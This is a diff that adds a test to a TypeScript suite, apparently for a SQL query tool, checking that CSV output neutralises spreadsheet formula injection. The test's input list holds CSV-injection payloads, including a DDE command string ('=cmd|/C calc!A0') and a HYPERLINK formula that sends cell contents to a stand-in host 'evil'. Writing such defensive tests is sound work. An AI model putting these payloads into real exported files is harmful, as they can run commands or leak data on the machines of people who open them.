@@ -60,6 +60,30 @@ describe('millrace sql', () => {
     );
   });
 
+  test('18.345: attack: a text in CSV is no formula of a spreadsheet', async () => {
+    const texts = [
+      ...['=cmd|/C calc!A0', '=HYPERLINK("http://evil/"&A1,"x")', '+1+cmd', '-1+cmd', '@SUM(1)'],
+      ...['\t=1', '\r=1', '\n=1', ' =1', '＝1', '＋1', '－1', '＠1', '-', '- a point'],
+    ];
+    const plain = ['a=b', '-7', '+1.5', '-2e-3', '1', '', "'=1"];
+    const literal = (text: string) => `'${text.replaceAll("'", "''")}' AS "${text.length} "`;
+    for (const [list, prefix] of [
+      [texts, "'"],
+      [plain, ''],
+    ] as const)
+      for (const text of list) {
+        const csv = await sql({ query: `SELECT ${literal(text)}`, format: 'csv' });
+        const cell = csv.slice(csv.indexOf('\r\n') + 2, -2);
+        const value = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
+        expect(value).toBe(`${prefix}${text}`);
+      }
+    expect(await sql({ query: 'SELECT -1.5 AS a, -2 AS "=b"', format: 'csv' })).toBe(
+      "a,'=b\r\n-1.5,-2\r\n",
+    );
+    const json = await sql({ query: "SELECT '=1' AS a", format: 'json' });
+    expect(json).toBe('{"a":"=1"}\n');
+  });
+
   test('writes a Parquet file that another program reads, and overwrites no file', async () => {
     const query = 'SELECT turn, cost, model, error_code FROM attempts ORDER BY turn';
     const parquet = join(folder(), 'a.parquet');
